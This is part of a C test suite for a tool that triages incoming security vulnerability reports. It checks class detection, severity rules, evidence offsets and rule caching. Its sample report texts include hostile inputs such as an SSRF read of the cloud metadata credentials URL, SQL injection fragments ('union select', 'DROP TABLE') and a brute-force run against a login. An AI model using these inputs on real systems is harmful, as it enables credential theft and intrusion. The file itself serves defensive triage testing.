	{"SSRF lets me read http://169.254.169.254/latest/meta-data/iam/security-credentials/ with the AWS keys.", SEV_CRITICAL},
	{"XSS that only works when the victim pastes the payload into their own console.", SEV_LOW},
	/* Round 3, own wording: where it was tested is not self-only; guessing without the words "brute force"; a race told by what was done; text sent as any sender; a CSRF that wipes data; active mixed content that ends in stolen sessions; a token to the code; a link only its holder sees; harm kept in one's own account; code run only from inside the network; a vendor's flaw not tried here. */
	{"Reflected XSS in the q parameter; I only tried it in my own browser, logged in as my own test user.", SEV_MEDIUM},
	{"Reflected XSS in the preview, but it only fires in my own session.", SEV_LOW},
	{"Broken authentication: the PIN form never locks, I ran patator with a short wordlist against my own login.", SEV_MEDIUM},
	{"The welcome bonus can be claimed three times when the claim call is sent concurrently from two tabs.", SEV_MEDIUM},
	{"A trial workspace can text strangers under any sender name, e.g. their bank.", SEV_MEDIUM},
	{"CSRF: no token on the reset-data form, so a hostile page can erase all the lists of the logged-in owner.", SEV_HIGH},
	{"CSRF: no token on the notification settings, a hostile page can switch the victim's e-mail alerts off.", SEV_MEDIUM},
	{"Mixed content: the agent page pulls its script over plain HTTP, and on a shared hotspot I could steal the agent's session cookie with it.", SEV_MEDIUM},
	{"Mixed content: the pricing page pulls jQuery over plain HTTP.", SEV_LOW},
	{"Information disclosure: the staging .env is readable and holds a Bitbucket deploy token.", SEV_HIGH},
	{"Information disclosure: the receipt link shows the payer's billing address to anybody who has it.", SEV_LOW},
	{"Denial of service: one malformed import blocks the queue, but it is only our own workspace that waits.", SEV_LOW},
	{"Remote code execution: the build server's script console runs Groovy without authentication, reachable only from the internal network.", SEV_HIGH},
	{"Remote code execution: the build server's script console runs Groovy without authentication.", SEV_CRITICAL},
	{"Our telephony vendor's console has an IDOR (broken access control) between sub-accounts. I did not try anything on your platform, but I believe it affects you too.", SEV_UNSET},
    };
    struct report r;
    struct triage t;
    size_t  i;

    (void) state;
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
	judge(&t, &r, "Report", cases[i].text, NULL);
	if (t.severity != cases[i].sev)
	    fail_msg("case %zu: want %d, got %d (%s)", i, cases[i].sev, t.severity,
		     t.severity_rule ? t.severity_rule : "-");
	if (cases[i].sev != SEV_UNSET) {
	    assert_string_equal(t.severity_basis, "class+impact");
	    assert_non_null(t.severity_rule);
	} else {
	    assert_null(t.severity_basis);
	}
	triage_free(&t);
	report_destroy(&r);
    }
}

static void test_evidence_json(void **state)
{
    struct report r;
    struct triage t;
    json_t *j, *ev, *xss, *e0;

    (void) state;
    judge(&t, &r, "Stored XSS in contact notes", complete_xss, NULL);
    j = triage_to_json(&r, &t, NULL);
    assert_non_null(j);
    ev = json_object_get(j, "evidence");
    assert_true(json_is_object(ev));
    xss = json_object_get(json_object_get(ev, "classes"), "xss");
    assert_true(json_is_array(xss));
    assert_true(json_array_size(xss) >= 1 && json_array_size(xss) <= TRIAGE_EVIDENCE_MAX);
    e0 = json_array_get(xss, 0);
    assert_true(json_is_string(json_object_get(e0, "rule")));
    assert_true(json_is_string(json_object_get(e0, "match")));
    assert_true(json_is_integer(json_object_get(e0, "offset"))
		|| json_is_string(json_object_get(e0, "offset")));
    assert_true(json_is_array(json_object_get(json_object_get(ev, "completeness"), "impact")));
    assert_true(json_is_array(json_object_get(ev, "scope")));
    assert_string_equal(json_string_value(json_object_get(json_object_get(ev, "severity"),
							   "basis")), "class+impact");
    assert_true(json_is_object(json_object_get(j, "extracted")));
    json_decref(j);
    triage_free(&t);
    report_destroy(&r);
}

 /*
  * Flowing text and lines: most rules see every run of white space as
  * one byte (a line break for a blank line, a space elsewhere), rules
  * that need lines see the text as written, and every offset is the
  * written text's.
  */
static void test_flowing_text(void **state)
{
    static const struct {
	const char *text;
	const char *cls;		/* this class, or NULL: none */
	const char *at;			/* its evidence starts here exactly */
	const char *near;		/* or near here (a guessed start) */
    }       cases[] = {
	/* a phrase across runs of spaces and a wrapped line: exact start */
	{"Hi.\n\nA stored   script\n   injection in the wiki.", "xss", "stored", NULL},
	{"Found a stored script\n\ninjection point list.", NULL, NULL, NULL},
	/* \s+ crosses a wrapped line, not a blank one */
	{"Try id=1 union\n    select 1,2 in the search.", "sqli", NULL, "union"},
	{"Union\n\nselect all that apply.", NULL, NULL, NULL},
	/* [^.\n] runs on across a wrapped line, stops at a sentence */
	{"The preview fetches any URL you give it,\nincluding internal ones.", "ssrf", NULL, "fetches"},
	{"The preview fetches any URL.\nInternal ones too.", NULL, NULL, NULL},
	/* [\n]: the text's start, a paragraph's, not a wrapped line's */
	{"Remote shell on the build box.", "rce", NULL, "Remote"},
	{"Hello team.\n\n  Remote shell on the build box.", "rce", NULL, "Remote"},
	{"I got a remote shell on the box.", NULL, NULL, NULL},
	{"Hello team, I got a\nremote shell on the box.", NULL, NULL, NULL},
	/* ^ with m: lines as written */
	{"Intro line\nforged: yes, the token is ignored.", "csrf", NULL, "forged"},
	{"The request was forged: the token is ignored.", NULL, NULL, NULL},
	/* S: the exact start, found before the match, so a cue just
	 * before it counts */
	{"Note that external entity\n    expansion reads local files.", "xxe", "entity", NULL},
	{"This is not entity expansion of local files.", NULL, NULL, NULL},
	/* S that Hyperscan cannot track: a guessed start */
	{"The app downgrades the upload to plain http on old phones.", "mitm", NULL, "downgrades"},
	/* \s? crosses a blank line (a guessed start stays in its paragraph) */
	{"A flood\n\nof requests took the API down.", "dos", NULL, "of requests"},
    };
    struct triage_rules *rules;
    char    err[512];
    size_t  i;

    (void) state;
    rules = triage_rules_load(RULES_DIR "flow.rules", err, sizeof(err));
    if (rules == NULL)
	fail_msg("%s", err);
    for (i = 0; i < sizeof(cases) / sizeof(cases[0]); i++) {
	struct report r;
	struct triage t;
	const struct triage_evidence *ev;

	report_make(&r, "a@researcher.example", "Bug", cases[i].text);
	triage_init(&t);
	assert_int_equal(triage_classify(rules, &r, "a@researcher.example", NULL, &t), 0);
	if (cases[i].cls == NULL) {
	    if (t.classes.n > 0 && strcmp(first(&t.classes), "other") != 0)
		fail_msg("case %zu: class %s, want none", i, first(&t.classes));
	} else {
	    if (!has(&t.classes, cases[i].cls))
		fail_msg("case %zu: no %s (%zu classes)", i, cases[i].cls, t.classes.n);
	    ev = ev_find(&t, EV_CLASS, cases[i].cls);
	    if (cases[i].at != NULL) {
		assert_non_null(ev);
		if (ev->offset != strstr(cases[i].text, cases[i].at) - cases[i].text)
		    fail_msg("case %zu: offset %ld, want %ld", i, ev->offset,
			     (long) (strstr(cases[i].text, cases[i].at) - cases[i].text));
	    } else {
		ev_points_at(&r, ev, cases[i].near);
	    }
	}
	triage_free(&t);
	report_destroy(&r);
    }
    triage_rules_free(rules);
}

/*
 * Scans from many threads at once, over two rules objects of different
 * size, take Hyperscan scratches from one shared pool: a scratch in use
 * by two scans, or one too small for the rules it scans with, makes
 * hs_scan() fail and triage_classify() return -1.
 */
#define SCRATCH_THREADS	8
#define SCRATCH_ROUNDS	40

struct scratch_job {
    struct triage_rules *good;		/* a small rules file */
    int     failures;			/* wrong or failed results */
};

static void *scratch_worker(void *arg)
{
    struct scratch_job *job = arg;
    struct report r, g;
    struct triage t;
    int     i;

    report_make(&r, "reporter@researcher.example", "Stored XSS", complete_xss);
    report_make(&g, "a@researcher.example", "Bug", "Widget injection on the "
		"dashboard; an attacker can run script.");
    for (i = 0; i < SCRATCH_ROUNDS; i++) {
	/* the built-in rules (large), then the small file's */
	triage_init(&t);
	if (triage_classify(NULL, &r, "reporter@researcher.example", NULL, &t) != 0
	    || !strlist_contains(&t.classes, "xss"))
	    __atomic_add_fetch(&job->failures, 1, __ATOMIC_RELAXED);
	triage_free(&t);
	triage_init(&t);
	if (triage_classify(job->good, &g, "a@researcher.example", NULL, &t) != 0
	    || t.classes.n != 1 || strcmp(t.classes.v[0], "xss") != 0)
	    __atomic_add_fetch(&job->failures, 1, __ATOMIC_RELAXED);
	triage_free(&t);
    }
    report_destroy(&r);
    report_destroy(&g);
    return (NULL);
}

static void test_scratch_shared(void **state)
{
    struct scratch_job job = {NULL, 0};
    pthread_t th[SCRATCH_THREADS];
    char    err[512];
    int     i, round;

    (void) state;
    /* Twice: the second time the pool holds scratches for a freed rules
     * object, which the new one's serial does not match. */
    for (round = 0; round < 2; round++) {
	if ((job.good = triage_rules_load(RULES_DIR "good.rules", err, sizeof(err))) == NULL)
	    fail_msg("%s", err);
	for (i = 0; i < SCRATCH_THREADS; i++)
	    assert_int_equal(pthread_create(&th[i], NULL, scratch_worker, &job), 0);
	for (i = 0; i < SCRATCH_THREADS; i++)
	    assert_int_equal(pthread_join(th[i], NULL), 0);
	triage_rules_free(job.good);
	assert_int_equal(job.failures, 0);
    }
}

static void test_rules_files(void **state)
{
    struct triage_rules *rules;
    struct report r;
    struct triage t;
    char    err[512];

    (void) state;

    /* The built-in rules load, and say so. */
    rules = triage_rules_load(NULL, err, sizeof(err));
    assert_non_null(rules);
    assert_string_equal(triage_rules_source(rules), "built-in");
    triage_rules_free(rules);
    assert_non_null(triage_builtin_rules());
    assert_ptr_equal(triage_builtin_rules(), triage_builtin_rules());

    /* A good file: its words, its weights. */
    rules = triage_rules_load(RULES_DIR "good.rules", err, sizeof(err));
    if (rules == NULL)
	fail_msg("%s", err);
    assert_string_equal(triage_rules_source(rules), RULES_DIR "good.rules");
    assert_false(triage_rules_prebuilt(rules));	/* a file is compiled at load */
    report_make(&r, "a@researcher.example", "Bug", "Widget injection on the "
		"dashboard; an attacker can run script. This is not a DROP TABLE.");
    triage_init(&t);
    assert_int_equal(triage_classify(rules, &r, "a@researcher.example", NULL, &t), 0);
    assert_int_equal(t.classes.n, 1);
    assert_string_equal(first(&t.classes), "xss");
    assert_true(t.complete[ITEM_IMPACT]);
    assert_int_equal(t.severity, SEV_HIGH);	/* base xss high */
    assert_non_null(strstr(ev_find(&t, EV_CLASS, "xss")->rule, "good.rules:4"));
    triage_free(&t);
    report_destroy(&r);
    triage_rules_free(rules);

    /* A bad regex: rejected, naming the file and the line. */
    err[0] = 0;
    assert_null(triage_rules_load(RULES_DIR "bad_regex.rules", err, sizeof(err)));
    if (strstr(err, "bad_regex.rules:3:") == NULL)
	fail_msg("%s", err);

    /* A word outside the vocabulary: rejected, naming it. */
    assert_null(triage_rules_load(RULES_DIR "unknown_word.rules", err, sizeof(err)));
    if (strstr(err, "unknown_word.rules:3:") == NULL || strstr(err, "sql_injection") == NULL)
	fail_msg("%s", err);

    /* No file at all. */
    assert_null(triage_rules_load(RULES_DIR "absent.rules", err, sizeof(err)));
    assert_non_null(strstr(err, "absent.rules"));
}

/* test_rules_cache - compiled once, read back, same verdicts; damage is ignored */

#define CACHE_RULES \
    "set class_min 2\n" \
    "negation \"not\"\n" \
    "class xss 3 \"widget injection\"\n" \
    "class sqli 3 /\\bdrop\\s+table\\b/iS\n" \
    "item impact 2 \"an attacker can\"\n" \
    "item steps 2 /^\\s*1\\.\\s+\\S[^\\n]*\\n\\s*2\\.\\s+\\S/m\n" \
    "base xss high\n"

static int cache_files(const char *dir, char *last, size_t len)
{
    struct dirent *de;
    DIR    *d = opendir(dir);
    int     n = 0;

    if (d == NULL)
	return (0);
    while ((de = readdir(d)) != NULL)
	if (strstr(de->d_name, ".hsdb") != NULL) {
	    n++;
	    if (last != NULL)
		snprintf(last, len, "%s/%s", dir, de->d_name);
	}
    closedir(d);
    return (n);
}

static char *cache_verdict(const struct triage_rules *rules)
{
    struct report r;
    struct triage t;
    json_t *j;
    char   *s;

    report_make(&r, "a@researcher.example", "Widget injection",
		"An attacker can run script. Then DROP   TABLE users; ran.\n"
		"1. log in\n2. open the widget\n");
    triage_init(&t);
    assert_int_equal(triage_classify(rules, &r, "a@researcher.example", NULL, &t), 0);
    j = triage_to_json(&r, &t, NULL);
    s = json_dumps(j, JSON_SORT_KEYS | JSON_COMPACT);
    json_decref(j);
    triage_free(&t);
    report_destroy(&r);
    assert_non_null(s);
    return (s);
}

static void test_rules_cache(void **state)
{
    char    base[] = "/tmp/secmilter-rulescache-XXXXXX", dir[512], path[512], file[1024];
    char    err[512], *compiled, *cached;
    struct triage_rules *rules;
    FILE   *fp;
    int     i, fd;

    (void) state;
    assert_non_null(mkdtemp(base));
    snprintf(dir, sizeof(dir), "%s/cache", base);
    snprintf(path, sizeof(path), "%s/test.rules", base);
    assert_non_null(fp = fopen(path, "w"));
    fputs(CACHE_RULES, fp);
    fclose(fp);

    /* No directory named: nothing is written. */
    assert_int_equal(triage_rules_cache_dir(NULL), 0);
    if ((rules = triage_rules_load(path, err, sizeof(err))) == NULL)
	fail_msg("%s", err);
    assert_false(triage_rules_cached(rules));
    triage_rules_free(rules);
    assert_int_equal(cache_files(dir, NULL, 0), 0);

    /* The first load compiles and writes; the second reads it back. */
    assert_int_equal(triage_rules_cache_dir(dir), 0);
    if ((rules = triage_rules_load(path, err, sizeof(err))) == NULL)
	fail_msg("%s", err);
    assert_false(triage_rules_cached(rules));
    compiled = cache_verdict(rules);
    triage_rules_free(rules);
    assert_int_equal(cache_files(dir, file, sizeof(file)), 1);
    if ((rules = triage_rules_load(path, err, sizeof(err))) == NULL)
	fail_msg("%s", err);
    assert_true(triage_rules_cached(rules));
    cached = cache_verdict(rules);
    triage_rules_free(rules);
    assert_string_equal(cached, compiled);	/* offsets of the S rule too */
    assert_non_null(strstr(compiled, "\"sqli\""));
    free(cached);

    /* One byte changed: ignored, compiled again, the file rewritten. */
    {
	struct stat st;
	unsigned char byte;

	assert_true((fd = open(file, O_RDWR)) >= 0);
	assert_int_equal(fstat(fd, &st), 0);
	assert_true(st.st_size > 1000);
	assert_int_equal(pread(fd, &byte, 1, st.st_size / 2), 1);
	byte ^= 0x55;
	assert_int_equal(pwrite(fd, &byte, 1, st.st_size / 2), 1);
	close(fd);
    }
    if ((rules = triage_rules_load(path, err, sizeof(err))) == NULL)
	fail_msg("%s", err);
    assert_false(triage_rules_cached(rules));
    triage_rules_free(rules);
    if ((rules = triage_rules_load(path, err, sizeof(err))) == NULL)
	fail_msg("%s", err);
    assert_true(triage_rules_cached(rules));
    triage_rules_free(rules);

    /* Cut short: the same. */
    assert_int_equal(truncate(file, 100), 0);
    if ((rules = triage_rules_load(path, err, sizeof(err))) == NULL)
	fail_msg("%s", err);
    assert_false(triage_rules_cached(rules));
    cached = cache_verdict(rules);
    assert_string_equal(cached, compiled);
    free(cached);
    triage_rules_free(rules);

    /* Other rules, other files; the four newest are kept. */
    for (i = 0; i < 6; i++) {
	assert_non_null(fp = fopen(path, "w"));
	fprintf(fp, "%sclass xss 1 \"variant %d\"\n", CACHE_RULES, i);
	fclose(fp);
	if ((rules = triage_rules_load(path, err, sizeof(err))) == NULL)
	    fail_msg("%s", err);
	assert_false(triage_rules_cached(rules));
	triage_rules_free(rules);
    }
    assert_int_equal(cache_files(dir, NULL, 0), 4);
    if ((rules = triage_rules_load(path, err, sizeof(err))) == NULL)	/* the last */
	fail_msg("%s", err);
    assert_true(triage_rules_cached(rules));
    triage_rules_free(rules);

    assert_int_equal(triage_rules_cache_dir(NULL), 0);
    free(compiled);
    snprintf(file, sizeof(file), "rm -rf '%s'", base);
    assert_int_equal(system(file), 0);
}

int     main(void)
{
    const struct CMUnitTest tests[] = {
	cmocka_unit_test(test_class_wording_and_payloads),
	cmocka_unit_test(test_class_by_description),
	cmocka_unit_test(test_negation_and_quoting),
	cmocka_unit_test(test_completeness_evidence),
	cmocka_unit_test(test_completeness_wordings),
	cmocka_unit_test(test_scope_reasons),
	cmocka_unit_test(test_conduct_described_or_warned),
	cmocka_unit_test(test_bounty_demand),
	cmocka_unit_test(test_conduct_wordings),
	cmocka_unit_test(test_severity_rule),
	cmocka_unit_test(test_evidence_json),
	cmocka_unit_test(test_rules_files),
	cmocka_unit_test(test_rules_cache),
	cmocka_unit_test(test_flowing_text),
	cmocka_unit_test(test_complete_xss_report),
	cmocka_unit_test(test_interface_header_example),
	cmocka_unit_test(test_nothing_found),
	cmocka_unit_test(test_other_when_security_ish),
	cmocka_unit_test(test_automated_null_sender),
	cmocka_unit_test(test_automated_evidence),
	cmocka_unit_test(test_automated_addresses_and_subjects),
	cmocka_unit_test(test_followup_by_subject_tag),
	cmocka_unit_test(test_set_followup_and_ticket),
	cmocka_unit_test(test_ticket_tags),
	cmocka_unit_test(test_policy_exclusions),
	cmocka_unit_test(test_in_scope_domains),
	cmocka_unit_test(test_third_party),
	cmocka_unit_test(test_negation),
	cmocka_unit_test(test_classes_rank_and_cwe),
	cmocka_unit_test(test_conduct),
	cmocka_unit_test(test_flags),
	cmocka_unit_test(test_cvss_severity),
	cmocka_unit_test(test_json_shape),
	cmocka_unit_test(test_json_missing_order_and_bad_utf8),
	cmocka_unit_test(test_target_by_version),
	cmocka_unit_test(test_steps_and_poc),
	cmocka_unit_test(test_target_own_words),
	cmocka_unit_test(test_vocabularies),
	cmocka_unit_test(test_hostile_input),
	cmocka_unit_test(test_scratch_shared),
    };

    return (cmocka_run_group_tests(tests, NULL, NULL));
}
